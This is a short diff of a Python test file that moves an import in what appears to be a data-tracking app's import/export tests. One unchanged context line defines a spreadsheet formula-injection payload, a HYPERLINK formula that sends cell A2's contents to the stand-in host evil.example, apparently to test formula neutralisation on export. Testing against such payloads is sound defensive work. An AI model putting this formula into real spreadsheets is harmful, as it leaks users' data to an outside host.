@@ -16,9 +16,9 @@ from sqlmodel import SQLModel, select
 from tests.helpers import MINIMAL, write_workbook
 from tracker.io.cells import frame_csv, neutralise, restore_text
 from tracker.io.exporter import export_csv_zip, export_workbook
-from tracker.io.importer import import_path
 from tracker.models import ActionItem, Institution, ReportRevision, StrategicLine
 from tracker.services import plans
+from tracker.services.imports import import_path
 from tracker.services.permissions import SYSTEM
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
